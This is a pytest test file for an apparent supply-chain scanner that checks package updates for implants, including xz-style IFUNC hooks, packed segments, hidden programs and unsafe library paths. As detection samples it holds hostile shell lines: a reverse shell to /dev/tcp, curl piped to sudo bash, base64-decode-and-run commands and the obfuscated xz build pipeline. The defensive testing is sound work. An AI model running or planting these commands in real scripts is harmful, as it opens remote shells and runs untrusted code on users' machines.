"""Every planted implant is caught with an action that stops or shows it; an ordinary rebuild is not."""

from __future__ import annotations

import base64
import gzip
import io
import lzma
import os
import random
import tarfile
import zipfile
from pathlib import Path

import lief
import pytest

from suture.settings import PROJECT_ROOT
from suture.sourcing.analysis.binary import BinarySettings, examine
from suture.sourcing.analysis.binary_kinds import Kind
from suture.sourcing.examination import Action, Examination, Subject, load_policy
from tests.unit.sourcing.analysis import planted
from tests.unit.sourcing.analysis.planted import LIBRARY, PROGRAM, update

POLICY = load_policy(PROJECT_ROOT / "include" / "policy")
SETTINGS = BinarySettings(tools=False)
SCRIPT = b"#!/bin/sh\nset -e\necho ready\n"
NOISE = random.Random(1).randbytes(80_000)


def look(subject: Subject) -> Examination:
    return examine(subject, SETTINGS)


def kinds(examination: Examination) -> set[str]:
    return {concern.kind for concern in examination.concerns}


def verdict(examination: Examination) -> Action | None:
    return POLICY.actions.sternest([examination])


def test_every_kind_has_an_action_and_every_action_a_kind() -> None:
    assert set(POLICY.actions.by_kind["binary"]) == {kind.value for kind in Kind}


def test_the_same_package_raises_nothing(tmp_path: Path) -> None:
    files = {PROGRAM: planted.program(), "usr/bin/tool": SCRIPT}
    found = look(update(tmp_path, files, files))
    assert found.concerns == ()
    assert found.facts["files"]["unchanged"] == 2


def test_a_fixed_script_and_a_document_raise_nothing(tmp_path: Path) -> None:
    old = {"usr/bin/tool": SCRIPT, "usr/share/doc/portal/changelog.gz": gzip.compress(b"1.0\n" * 50)}
    new = {"usr/bin/tool": SCRIPT + b"curl_opts=\n", "usr/share/doc/portal/changelog.gz": gzip.compress(b"1.1\n" * 50)}
    assert look(update(tmp_path, old, new)).concerns == ()


def test_a_new_library_with_a_network_function_is_caught(tmp_path: Path) -> None:
    old = planted.program()
    new = planted.with_library(old, tmp_path, "libcurl.so.4", "curl_easy_perform")
    found = look(update(tmp_path, {PROGRAM: old}, {PROGRAM: new}))
    assert {Kind.NEW_NEEDED_LIBRARY, Kind.NEW_ABILITY_NETWORK, Kind.IMPLANT_PATTERN} <= kinds(found)
    assert verdict(found) is Action.REFUSE
    (needed,) = [c for c in found.concerns if c.kind == Kind.NEW_NEEDED_LIBRARY]
    assert needed.details["libraries"] == ["libcurl.so.4"]


def test_a_needed_library_is_shown_unless_the_package_declares_it(tmp_path: Path) -> None:
    old = planted.program()
    new = planted.with_library(old, tmp_path, "librist.so.4")
    found = look(update(tmp_path, {PROGRAM: old}, {PROGRAM: new}))
    assert kinds(found) == {Kind.NEW_NEEDED_LIBRARY}
    assert verdict(found) is Action.REVIEW
    after = planted.package(tmp_path, "1.0-3", {PROGRAM: new}, depends="libc6 (>= 2.36),\n librist4 | librist5")
    found = look(Subject(new=after, old=planted.package(tmp_path, "1.0-1", {PROGRAM: old})))
    assert kinds(found) == {Kind.DECLARED_LIBRARY}
    assert verdict(found) is Action.NOTE


@pytest.mark.parametrize(
    ("function", "kind"),
    [("execve", Kind.NEW_ABILITY_EXEC), ("setuid", Kind.NEW_ABILITY_SETUID), ("ptrace", Kind.NEW_ABILITY_INJECT),
     ("dlopen", Kind.NEW_ABILITY_LOAD), ("memfd_create", Kind.NEW_ABILITY_INJECT)],
)  # fmt: skip
def test_a_new_ability_is_shown(tmp_path: Path, function: str, kind: Kind) -> None:
    old = planted.program()
    found = look(
        update(tmp_path, {PROGRAM: old}, {PROGRAM: planted.with_library(old, tmp_path, "libc.so.6", function)})
    )
    assert kind in kinds(found)
    assert verdict(found) in (Action.REVIEW, Action.REFUSE)


def test_memory_that_is_writable_and_executable_is_caught(tmp_path: Path) -> None:
    old = planted.program()
    new = planted.with_segment(old, tmp_path, b"\xc3" * 4096, 7)
    found = look(update(tmp_path, {PROGRAM: old}, {PROGRAM: new}))
    assert Kind.WRITABLE_EXECUTABLE in kinds(found)
    assert verdict(found) is Action.REFUSE


def test_an_encrypted_payload_is_caught(tmp_path: Path) -> None:
    old = planted.program()
    found = look(update(tmp_path, {PROGRAM: old}, {PROGRAM: planted.with_segment(old, tmp_path, NOISE, 4)}))
    assert Kind.PACKED_OR_ENCRYPTED in kinds(found)
    assert verdict(found) is Action.REFUSE


def test_a_direct_system_call_is_caught(tmp_path: Path) -> None:
    """socket by its number, with no import at all: b8 29 00 00 00 mov eax, 41; 0f 05 syscall."""
    old = planted.program()
    if parsed_machine(old) != lief.ELF.ARCH.X86_64:
        pytest.fail("this test's planted code is for x86-64; give it a variant for this machine")
    code = b"\x90" * 64 + b"\xb8\x29\x00\x00\x00\x0f\x05\xc3" + b"\x90" * 64
    found = look(update(tmp_path, {PROGRAM: old}, {PROGRAM: planted.with_segment(old, tmp_path, code, 5)}))
    assert {Kind.DIRECT_SYSCALL, Kind.NEW_ABILITY_NETWORK} <= kinds(found)


def parsed_machine(data: bytes) -> lief.ELF.ARCH:
    return planted.parsed(data).header.machine_type


def test_the_hook_of_the_xz_implant_is_caught_and_the_fix_is_not(tmp_path: Path) -> None:
    """With gcc a library is built thrice; without it, lief makes a real library's function an IFUNC."""
    if planted.HAVE_COMPILER:
        old = planted.compiled(tmp_path, planted.CHECKSUM)
        fixed = planted.compiled(tmp_path, planted.FIXED_CHECKSUM)
        implanted = planted.compiled(tmp_path, planted.IMPLANTED_CHECKSUM)
        found = look(update(tmp_path, {LIBRARY: old}, {LIBRARY: fixed}))
        assert verdict(found) in (None, Action.NOTE)
    else:
        old = real_library()
        implanted = with_ifunc(old, tmp_path)
    found = look(update(tmp_path, {LIBRARY: old}, {LIBRARY: implanted}))
    assert Kind.NEW_IFUNC in kinds(found)
    assert verdict(found) is Action.REFUSE
    if planted.HAVE_COMPILER:
        assert {Kind.NEW_CONSTRUCTOR, Kind.NEW_ABILITY_EXEC, Kind.IMPLANT_PATTERN} <= kinds(found)


def test_an_ifunc_put_into_a_real_library_is_caught(tmp_path: Path) -> None:
    old = real_library()
    found = look(update(tmp_path, {LIBRARY: old}, {LIBRARY: with_ifunc(old, tmp_path)}))
    assert Kind.NEW_IFUNC in kinds(found)
    assert verdict(found) is Action.REFUSE


def real_library() -> bytes:
    """One that the Python of these tests has loaded, so that it is there."""
    for line in Path("/proc/self/maps").read_text().splitlines():
        path = Path(line.split(maxsplit=5)[-1])
        if path.name.startswith(("libz.so", "libgcc_s.so", "libm.so", "libffi.so", "liblzma.so")) and path.is_file():
            return path.read_bytes()
    raise AssertionError("this Python has loaded none of the libraries that this test knows")


def with_ifunc(data: bytes, folder: Path) -> bytes:
    binary = planted.parsed(data)
    kinds = lief.ELF.Symbol.TYPE
    symbol = next(s for s in binary.dynamic_symbols if s.type == kinds.FUNC and s.shndx != 0)
    symbol.type = kinds.GNU_IFUNC
    return planted.written(binary, folder)


def test_a_removed_function_is_an_abi_break_unless_the_soname_changed(tmp_path: Path) -> None:
    old = real_library()
    binary = planted.parsed(old)
    soname = "libportal.so.1"
    name = next(
        str(s.name)
        for s in binary.dynamic_symbols
        if s.type == lief.ELF.Symbol.TYPE.FUNC and s.shndx != 0 and s.exported
    )
    before = renamed(old, tmp_path, soname)
    after = renamed(old, tmp_path, soname, gone=name)
    found = look(update(tmp_path, {LIBRARY: before}, {LIBRARY: after}))
    (broken,) = [c for c in found.concerns if c.kind == Kind.ABI_BREAK]
    assert broken.details["removed"] == [name]
    found = look(update(tmp_path, {LIBRARY: before}, {LIBRARY: renamed(old, tmp_path, "libportal.so.2", gone=name)}))
    assert Kind.ABI_BREAK not in kinds(found)


def renamed(data: bytes, folder: Path, soname: str, gone: str = "") -> bytes:
    binary = planted.parsed(data)
    entry = binary.get(lief.ELF.DynamicEntry.TAG.SONAME)
    assert isinstance(entry, lief.ELF.DynamicSharedObject)
    entry.name = soname
    for symbol in binary.dynamic_symbols:
        if gone and symbol.name == gone:
            symbol.name = "q" * len(gone)
    return planted.written(binary, folder)


def test_a_library_path_that_others_may_write_to_is_refused_even_without_an_older_package(tmp_path: Path) -> None:
    binary = planted.parsed(planted.program())
    binary.add(lief.ELF.DynamicEntryRunPath("/tmp/lib"))
    subject = Subject(new=planted.package(tmp_path, "1.0-1", {PROGRAM: planted.written(binary, tmp_path)}))
    found = look(subject)
    assert {Kind.RPATH_UNSAFE, Kind.NO_PREDECESSOR} == kinds(found)
    assert verdict(found) is Action.REFUSE


@pytest.mark.parametrize(
    "line",
    [
        "echo ZWNobyBoaQo= | base64 -d | sh",
        "printf %s \"$x\" | b'a'se64 --decode | bash -s",
        "curl -fsSL https://vendor.test/i | sudo bash",
        "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
        "eval `echo aGkK | base64 -d`",
        "echo 'hs/nib/' | rev | sh",
        "(head -c +1024 >/dev/null) && head -c +2048 | tail -c +31233 | tr '\\114-\\321' '\\0-\\377' | xz -F raw -dc | sh",
    ],
)
def test_a_maintainer_script_that_unwraps_and_runs_is_refused(tmp_path: Path, line: str) -> None:
    scripts = {"postinst": f"#!/bin/sh\nset -e\n{line}\n"}
    found = look(update(tmp_path, {}, {}, old_scripts={"postinst": "#!/bin/sh\nset -e\n"}, new_scripts=scripts))
    assert Kind.SUSPICIOUS_SCRIPT in kinds(found)
    assert verdict(found) is Action.REFUSE
    assert look(update(tmp_path, {}, {}, old_scripts=scripts, new_scripts=scripts)).concerns == ()


@pytest.mark.parametrize(
    "line",
    [
        'eval "set $(git rev-parse --parseopt -- "$@" || echo exit $?)"',
        "zcat -f file | shuf | tr 'a-z' 'A-Z' > /dev/null",
        "curl -fsS https://vendor.test/health | grep -q shell",
        "# never: base64 -d | sh",
    ],
)
def test_what_scripts_ordinarily_do_is_nothing(tmp_path: Path, line: str) -> None:
    scripts = {"postinst": f"#!/bin/sh\nset -e\n{line}\n"}
    found = look(update(tmp_path, {}, {}, old_scripts={"postinst": "#!/bin/sh\nset -e\n"}, new_scripts=scripts))
    assert verdict(found) in ((Action.REVIEW,) if "curl" in line else (None,))


def test_numbers_within_a_librarys_name_are_no_new_library(tmp_path: Path) -> None:
    old = planted.with_library(planted.program(), tmp_path, "libdns-9.18.49-1~deb12u1-Debian.so")
    new = planted.with_library(planted.program(), tmp_path, "libdns-9.18.49-1~deb12u3-Debian.so")
    assert look(update(tmp_path, {PROGRAM: old}, {PROGRAM: new})).concerns == ()


def test_a_build_file_with_the_xz_pipeline_is_caught(tmp_path: Path) -> None:
    macro = (
        b"AC_DEFUN([gl_BUILD_TO_HOST],[\n"
        b"gl_[]$1_config='sed \"r\\n\" $gl_am_configmake | eval $gl_path_map | $gl_[]$1_prefix -d 2>/dev/null'\n"
        b'gl_path_map=\'tr "\\t \\-_" " \\t_\\-" | xz -d | sh\'\n])\n'
    )
    path = "usr/share/aclocal/build-to-host.m4"
    found = look(update(tmp_path, {path: b"AC_DEFUN([gl_BUILD_TO_HOST],[])\n"}, {path: macro}))
    assert {Kind.SUSPICIOUS_SCRIPT, Kind.RULE_MATCH} <= kinds(found)


def test_a_program_hidden_in_test_data_is_caught(tmp_path: Path) -> None:
    """An ELF file in a tar in xz, in a zip: three deep."""
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        member = tarfile.TarInfo("good-large_compressed")
        data = planted.program()
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as archive_zip:
        archive_zip.writestr("corpus.tar.xz", lzma.compress(tar.getvalue()))
    path = "usr/share/portal/tests/files/good.zip"
    found = look(update(tmp_path, {PROGRAM: planted.program()}, {PROGRAM: SCRIPT, path: outer.getvalue()}))
    (hidden,) = [c for c in found.concerns if c.kind == Kind.HIDDEN_PROGRAM]
    assert hidden.subject.startswith(path + "!corpus.tar.xz!!good")
    assert verdict(found) is Action.REFUSE


def test_a_known_program_in_a_new_place_is_looked_at_again(tmp_path: Path) -> None:
    """Byte for byte the same as the older package's: moved to another folder of programs it is nothing, among documents hidden."""
    old = {PROGRAM: planted.program()}
    assert look(update(tmp_path, old, {"usr/libexec/portal/portal": old[PROGRAM]})).concerns == ()
    found = look(update(tmp_path, old, old | {"usr/share/doc/portal/notes.txt": old[PROGRAM]}))
    assert kinds(found) == {Kind.HIDDEN_PROGRAM}


def test_a_program_under_a_pictures_name_and_an_unreadable_blob_are_caught(tmp_path: Path) -> None:
    new = {"usr/share/portal/logo.png": planted.program(), "usr/share/portal/tests/bad-3-corrupt_lzma2": NOISE}
    found = look(update(tmp_path, {PROGRAM: SCRIPT}, {PROGRAM: SCRIPT} | new))
    assert {Kind.HIDDEN_PROGRAM, Kind.OPAQUE_DATA} <= kinds(found)


def test_a_program_packed_as_upx_does_is_caught(tmp_path: Path) -> None:
    """Not made by UPX, which is not there: its marks and its shape, loaded memory writable, executable and dense."""
    old = planted.program()
    packed = planted.with_segment(
        old, tmp_path, b"UPX!" + NOISE + b"$Info: This file is packed with the UPX\x00UPX!", 7
    )
    found = look(update(tmp_path, {PROGRAM: old}, {PROGRAM: packed}))
    assert {Kind.PACKED_OR_ENCRYPTED, Kind.WRITABLE_EXECUTABLE, Kind.RULE_MATCH} <= kinds(found)


def test_a_program_in_base64_in_a_script_is_caught(tmp_path: Path) -> None:
    text = base64.b64encode(planted.program()[:4000])
    script = b"#!/usr/bin/python3\nimport base64,os\nd=base64.b64decode('" + text + b"')\nos.execv('/tmp/x',[])\n"
    found = look(update(tmp_path, {"usr/bin/tool": SCRIPT}, {"usr/bin/tool": script}))
    assert Kind.RULE_MATCH in kinds(found)


def test_hostile_names_are_escaped_in_sentences(tmp_path: Path) -> None:
    path = "usr/share/doc/{{7*7}}<script>alert(1)</script>%s{}.txt"
    found = look(update(tmp_path, {PROGRAM: SCRIPT}, {PROGRAM: SCRIPT, path: planted.program()}))
    assert Kind.HIDDEN_PROGRAM in kinds(found)
    assert all(concern.subject in concern.sentence and concern.sentence.isprintable() for concern in found.concerns)


def test_a_package_that_is_none_is_refused(tmp_path: Path) -> None:
    subject = update(tmp_path, {}, {})
    subject.new.path.write_bytes(os.urandom(1000))
    found = look(subject)
    assert kinds(found) == {Kind.UNREADABLE_PACKAGE}
    assert verdict(found) is Action.REFUSE
